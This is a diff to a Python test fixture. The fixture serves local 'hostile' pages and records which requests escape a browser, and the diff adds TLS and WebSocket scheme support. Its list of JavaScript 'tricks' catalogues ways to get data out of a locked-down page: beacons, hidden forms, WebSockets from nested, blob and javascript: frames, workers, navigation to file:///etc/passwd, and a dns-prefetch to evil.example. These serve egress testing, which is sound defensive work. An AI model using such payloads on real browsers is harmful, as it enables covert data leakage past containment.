@@ -3,6 +3,7 @@
 Whatever arrives is kept, so that a test can say what left the browser.
 """
 
+import ssl
 import threading
 from collections.abc import Iterator, Mapping
 from contextlib import contextmanager
@@ -30,10 +31,11 @@ class Arrival:
 
 @dataclass
 class HostileSite:
-    """A site; `pages` may hold {site}, {other} and {home}."""
+    """A site; `pages` may hold {http}://{site}, {http}://{other}, {socket}://{site} and {home}."""
 
     port: int = 0
     other: int = 0
+    scheme: str = "http"
     pages: dict[str, str] = field(default_factory=dict)
     arrivals: list[Arrival] = field(default_factory=list)
 
@@ -43,7 +45,7 @@ class HostileSite:
 
     @property
     def url(self) -> str:
-        return f"http://{self.spot}"
+        return f"{self.scheme}://{self.spot}"
 
     @property
     def effects(self) -> list[Arrival]:
@@ -51,9 +53,16 @@ class HostileSite:
 
     def page(self, path: str) -> str:
         text = self.pages.get(path, "<title>Nothing</title><p>nothing here")
-        for name, place in (("site", self.spot), ("other", f"127.0.0.1:{self.other}")):
+        meant = {
+            "site": self.spot,
+            "other": f"127.0.0.1:{self.other}",
+            "http": self.scheme,
+            "socket": "wss" if self.scheme == "https" else "ws",
+            "home": HOME,
+        }
+        for name, place in meant.items():
             text = text.replace("{" + name + "}", place)
-        return text.replace("{home}", HOME)
+        return text
 
 
 def _handler(site: HostileSite) -> type[BaseHTTPRequestHandler]:
@@ -64,7 +73,7 @@ def _handler(site: HostileSite) -> type[BaseHTTPRequestHandler]:
             body = self.rfile.read(int(self.headers.get("content-length") or 0))
             wants_socket = "upgrade" in (self.headers.get("connection") or "").lower()
             site.arrivals.append(Arrival(self.command, self.path, body, wants_socket))
-            leads = {"/to-home": HOME, "/to-other": f"http://127.0.0.1:{site.other}/"}
+            leads = {"/to-home": HOME, "/to-other": f"{site.scheme}://127.0.0.1:{site.other}/"}
             if to := leads.get(self.path):
                 self.send_response(302)
                 self.send_header("Location", to)
@@ -95,13 +104,20 @@ def _handler(site: HostileSite) -> type[BaseHTTPRequestHandler]:
 
 
 @contextmanager
-def hostile_sites(pages: Mapping[str, str]) -> Iterator[tuple[HostileSite, HostileSite]]:
-    """Two sites with the same pages, each of which knows the other."""
+def hostile_sites(
+    pages: Mapping[str, str], tls: ssl.SSLContext | None = None
+) -> Iterator[tuple[HostileSite, HostileSite]]:
+    """Two sites with the same pages, each of which knows the other; with TLS if there is some."""
     sites = (HostileSite(pages=dict(pages)), HostileSite(pages=dict(pages)))
     servers = [ThreadingHTTPServer(("127.0.0.1", 0), _handler(site)) for site in sites]
     for site, server in zip(sites, servers, strict=True):
         site.port = server.server_port
         server.daemon_threads = True
+        if tls is not None:
+            site.scheme = "https"
+            server.socket = tls.wrap_socket(
+                server.socket, server_side=True, do_handshake_on_connect=False
+            )
         threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
     sites[0].other, sites[1].other = sites[1].port, sites[0].port
     try:
@@ -122,7 +138,7 @@ TRICKS: Mapping[str, str] = {
     "keepalive": "addEventListener('pagehide', () => fetch('/e', {method: 'POST', keepalive: true,"
     " body: 'x'})); setTimeout(() => location.reload(), 50)",
     "beacon at the end": "addEventListener('visibilitychange', () => navigator.sendBeacon('/e'))",
-    "elsewhere": "fetch('http://{other}/e', {method: 'POST', mode: 'no-cors', body: 'x'})",
+    "elsewhere": "fetch('{http}://{other}/e', {method: 'POST', mode: 'no-cors', body: 'x'})",
     "form": "document.body.innerHTML = '<form method=post action=/e><input name=a value=b></form>';"
     " document.forms[0].submit()",
     "form by click": "document.body.innerHTML = '<form method=post action=/e><button>';"
@@ -130,27 +146,41 @@ TRICKS: Mapping[str, str] = {
     "form to a new window": "document.body.innerHTML = '<form method=post action=/e target=_blank>"
     "<button>'; document.forms[0].submit()",
     "form in a frame": "let f = document.createElement('iframe'); f.srcdoc = '<form method=post"
-    " action=http://{site}/e><button></form><script>document.forms[0].submit()</' + 'script>';"
+    " action={http}://{site}/e><button></form><script>document.forms[0].submit()</' + 'script>';"
     " document.body.append(f)",
     "form of another site": "let f = document.createElement('iframe');"
-    " f.src = 'http://{other}/form';"
+    " f.src = '{http}://{other}/form';"
     " document.body.append(f)",
-    "socket": "new WebSocket('ws://{site}/e')",
+    "socket": "new WebSocket('{socket}://{site}/e')",
     "socket of a frame": "let f = document.createElement('iframe'); document.body.append(f);"
-    " new f.contentWindow.WebSocket('ws://{site}/e')",
+    " new f.contentWindow.WebSocket('{socket}://{site}/e')",
     "socket of a srcdoc": "let f = document.createElement('iframe'); f.srcdoc = '<script>"
-    "new WebSocket(\"ws://{site}/e\")</' + 'script>'; document.body.append(f)",
+    "new WebSocket(\"{socket}://{site}/e\")</' + 'script>'; document.body.append(f)",
+    "socket of a frame within": "let f = document.createElement('iframe'); document.body.append(f);"
+    " let g = f.contentDocument.createElement('iframe'); f.contentDocument.body.append(g);"
+    " new g.contentWindow.WebSocket('{socket}://{site}/e')",
+    "socket of a written frame": "let f = document.createElement('iframe');"
+    " document.body.append(f); f.contentDocument.open(); f.contentDocument.write('<script>"
+    "new WebSocket(\"{socket}://{site}/e\")</' + 'script>'); f.contentDocument.close()",
+    "socket of a script address": "document.body.insertAdjacentHTML('beforeend', '<iframe src="
+    '"javascript:new WebSocket(`{socket}://{site}/e`)"></iframe>\')',
+    "socket of a blob": "let f = document.createElement('iframe'); f.src = URL.createObjectURL("
+    "new Blob(['<script>new WebSocket(\"{socket}://{site}/e\")</' + 'script>'],"
+    " {type: 'text/html'})); document.body.append(f)",
+    "socket of an object": "let o = document.createElement('object'); o.data = 'about:blank';"
+    " document.body.append(o);"
+    " setTimeout(() => new o.contentWindow.WebSocket('{socket}://{site}/e'), 300)",
     "fetch of a frame": "let f = document.createElement('iframe'); document.body.append(f);"
-    " f.contentWindow.fetch('http://{site}/e', {method: 'POST', body: 'x'})",
+    " f.contentWindow.fetch('{http}://{site}/e', {method: 'POST', body: 'x'})",
     "worker": "new Worker('/worker.js')",
     "worker of a frame": "let f = document.createElement('iframe'); document.body.append(f);"
     " new f.contentWindow.Worker('/worker.js')",
-    "worker of a blob": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://{site}/e',"
+    "worker of a blob": "new Worker(URL.createObjectURL(new Blob([\"fetch('{http}://{site}/e',"
     " {method: 'POST'})\"])))",
     "service worker": "navigator.serviceWorker.register('/worker.js')",
     "window": "window.open('/form')",
     "window with a form": "let w = window.open('about:blank'); w.document.write('<form method=post"
-    " action=http://{site}/e>'); w.document.forms[0].submit()",
+    " action={http}://{site}/e>'); w.document.forms[0].submit()",
     "many windows": "for (let i = 0; i < 50; i += 1) window.open('/form')",
     "home": "location = '{home}'",
     "home by a picture": "new Image().src = '{home}'",
@@ -159,13 +189,13 @@ TRICKS: Mapping[str, str] = {
     "home by a redirect": "fetch('/to-home', {mode: 'no-cors'})",
     "loopback": "fetch('http://127.0.0.1:1/e', {mode: 'no-cors'})",
     "localhost": "fetch('http://localhost:{port}/e', {method: 'POST', mode: 'no-cors'})",
-    "other site": "location = 'http://{other}/form'",
+    "other site": "location = '{http}://{other}/form'",
     "file": "location = 'file:///etc/passwd'",
     "settings": "location = 'chrome://settings'",
     "script address": "location = \"javascript:fetch('/e', {method: 'POST'})\"",
     "data page": "let f = document.createElement('iframe'); f.src = 'data:text/html,<form"
-    " method=post action=http://{site}/e></form><script>document.forms[0].submit()</' + 'script>';"
-    " document.body.append(f)",
+    " method=post action={http}://{site}/e></form><script>document.forms[0].submit()</' +"
+    " 'script>'; document.body.append(f)",
     "download": "location = '/download'",
     "download of a blob": "let a = document.createElement('a'); a.download = 'x.bin'; a.href ="
     " URL.createObjectURL(new Blob(['x'.repeat(1e6)])); a.click()",
@@ -180,7 +210,7 @@ TRICKS: Mapping[str, str] = {
     "ping": 'document.body.innerHTML = \'<a href="#x" ping="/e">x</a>\';'
     " document.querySelector('a').click()",
     "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href={home}>"
-    "<link rel=preconnect href=http://{other}><link rel=dns-prefetch href=http://evil.example>')",
+    "<link rel=preconnect href={http}://{other}><link rel=dns-prefetch href=http://evil.example>')",
     "prerender": "let s = document.createElement('script'); s.type = 'speculationrules'; s.text ="
     " JSON.stringify({prerender: [{urls: ['/form']}], prefetch: [{urls: ['/form']}]});"
     " document.head.append(s)",
